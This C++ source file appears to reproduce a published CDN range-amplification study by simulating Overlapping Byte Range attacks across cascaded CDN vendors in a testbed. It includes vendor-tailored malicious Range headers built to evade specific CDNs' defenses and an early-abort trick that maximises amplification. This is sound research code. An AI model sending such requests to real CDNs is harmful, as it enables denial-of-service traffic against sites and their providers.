#include "core/obr.h"

#include <memory>

#include "core/testbed.h"

namespace rangeamp::core {

using cdn::ProfileOptions;
using cdn::Vendor;
using http::ByteRangeSpec;
using http::RangeSet;

namespace {

ProfileOptions obr_options(Vendor fcdn_or_bcdn, bool as_fcdn) {
  ProfileOptions options;
  // Cloudflare is OBR-FCDN-vulnerable only under a Bypass page rule
  // (Table II); as a BCDN candidate it is never used.
  if (as_fcdn && fcdn_or_bcdn == Vendor::kCloudflare) {
    options.cloudflare_mode = ProfileOptions::CloudflareMode::kBypass;
  }
  return options;
}

std::unique_ptr<CascadeTestbed> make_cascade(Vendor fcdn, Vendor bcdn,
                                             std::uint64_t resource_size) {
  auto bed = std::make_unique<CascadeTestbed>(
      cdn::make_profile(fcdn, obr_options(fcdn, /*as_fcdn=*/true)),
      cdn::make_profile(bcdn, obr_options(bcdn, /*as_fcdn=*/false)),
      obr_origin_config());
  bed->origin().resources().add_synthetic(std::string{kObrPath}, resource_size);
  return bed;
}

// Sends the exploited request with n overlapping ranges through a fresh
// cascade; the attacker aborts after a few KB (the small-receive-window
// trick of section IV-C).  Returns the fcdn-bcdn response byte count.
struct ProbeResult {
  std::uint64_t fcdn_bcdn_response_bytes = 0;
  std::uint64_t bcdn_origin_response_bytes = 0;
  std::uint64_t client_response_bytes = 0;
  int status = 0;
};

ProbeResult probe(Vendor fcdn, Vendor bcdn, std::size_t n,
                  std::uint64_t resource_size) {
  auto bed = make_cascade(fcdn, bcdn, resource_size);
  http::Request request =
      http::make_get(std::string{kObrHost}, std::string{kObrPath});
  request.headers.add("Range", obr_range_case(fcdn, n).to_string());

  net::TransferOptions abort_early;
  abort_early.abort_after_body_bytes = 4096;
  const http::Response response = bed->send(request, abort_early);

  ProbeResult result;
  result.fcdn_bcdn_response_bytes = bed->fcdn_bcdn_traffic().response_bytes();
  result.bcdn_origin_response_bytes = bed->bcdn_origin_traffic().response_bytes();
  result.client_response_bytes = bed->client_traffic().response_bytes();
  result.status = response.status;
  return result;
}

// Success criterion: the BCDN actually produced one part per overlapping
// range, i.e. the fcdn-bcdn segment carried at least n copies of the
// resource.
bool amplified(const ProbeResult& r, std::size_t n, std::uint64_t resource_size) {
  return r.fcdn_bcdn_response_bytes >=
         static_cast<std::uint64_t>(n) * resource_size;
}

}  // namespace

RangeSet obr_range_case(Vendor fcdn, std::size_t n) {
  RangeSet set;
  switch (fcdn) {
    case Vendor::kCdn77:
      // CDN77's Deletion rule triggers on closed first<1024 ranges; a
      // leading suffix keeps the set on the Laziness path (Table II).
      set.push(ByteRangeSpec::suffix_of(1024));
      break;
    case Vendor::kCdnsun:
      // CDNsun deletes sets whose first spec starts at byte 0 (Table I);
      // start the set at byte 1 (Table II: start1 >= 1).
      set.push(ByteRangeSpec::open(1));
      break;
    default:
      break;
  }
  set.push(ByteRangeSpec::open(0), n);
  return set;
}

std::string obr_case_description(Vendor fcdn) {
  switch (fcdn) {
    case Vendor::kCdn77: return "bytes=-1024,0-,...,0-";
    case Vendor::kCdnsun: return "bytes=1-,0-,...,0-";
    default: return "bytes=0-,0-,...,0-";
  }
}

std::vector<Vendor> obr_fcdn_candidates() {
  return {Vendor::kCdn77, Vendor::kCdnsun, Vendor::kCloudflare, Vendor::kStackPath};
}

std::vector<Vendor> obr_bcdn_candidates() {
  return {Vendor::kAkamai, Vendor::kAzure, Vendor::kStackPath};
}

origin::OriginConfig obr_origin_config() {
  origin::OriginConfig config;
  // "the origin server where range requests are disabled by the attacker"
  config.supports_ranges = false;
  // Application-level headers matching the paper testbed's ~1.6 KB response
  // footprint for the 1 KB target (Table V column 5).
  config.extra_headers = {
      {"Cache-Control", "max-age=86400, public"},
      {"Expires", "Wed, 08 Jul 2020 03:14:15 GMT"},
      {"Vary", "Accept-Encoding"},
      {"X-Backend", "web-origin-01.fra1.rangeamp-lab.internal"},
      {"Strict-Transport-Security", "max-age=63072000; includeSubDomains"},
      {"X-Content-Type-Options", "nosniff"},
      {"X-Frame-Options", "SAMEORIGIN"},
      {"Content-Security-Policy", "default-src 'self'"},
      {"X-Request-Context", "origin=apache;tier=prod;dc=fra1"},
      {"X-Cache-Status", "MISS from backend"},
  };
  return config;
}

ObrMeasurement measure_obr(Vendor fcdn, Vendor bcdn, std::uint64_t resource_size) {
  ObrMeasurement m;
  m.fcdn = fcdn;
  m.bcdn = bcdn;
  m.exploited_case = obr_case_description(fcdn);
  if (fcdn == bcdn) {
    // The paper excludes a CDN cascaded with itself (Table V's "-" row).
    m.feasible = false;
    return m;
  }

  // Exponential growth then binary search for the largest accepted n.
  std::size_t lo = 1;
  if (!amplified(probe(fcdn, bcdn, lo, resource_size), lo, resource_size)) {
    m.feasible = false;
    return m;
  }
  std::size_t hi = 2;
  constexpr std::size_t kCeiling = 1 << 17;
  while (hi <= kCeiling &&
         amplified(probe(fcdn, bcdn, hi, resource_size), hi, resource_size)) {
    lo = hi;
    hi *= 2;
  }
  while (hi - lo > 1) {
    const std::size_t mid = lo + (hi - lo) / 2;
    if (amplified(probe(fcdn, bcdn, mid, resource_size), mid, resource_size)) {
      lo = mid;
    } else {
      hi = mid;
    }
  }
  m.max_n = lo;

  const ProbeResult at_max = probe(fcdn, bcdn, m.max_n, resource_size);
  m.bcdn_origin_response_bytes = at_max.bcdn_origin_response_bytes;
  m.fcdn_bcdn_response_bytes = at_max.fcdn_bcdn_response_bytes;
  m.client_response_bytes = at_max.client_response_bytes;
  m.amplification =
      at_max.bcdn_origin_response_bytes == 0
          ? 0
          : static_cast<double>(at_max.fcdn_bcdn_response_bytes) /
                static_cast<double>(at_max.bcdn_origin_response_bytes);
  return m;
}

std::vector<ObrMeasurement> measure_all_obr(std::uint64_t resource_size) {
  std::vector<ObrMeasurement> out;
  for (const Vendor fcdn : obr_fcdn_candidates()) {
    for (const Vendor bcdn : obr_bcdn_candidates()) {
      out.push_back(measure_obr(fcdn, bcdn, resource_size));
    }
  }
  return out;
}

}  // namespace rangeamp::core
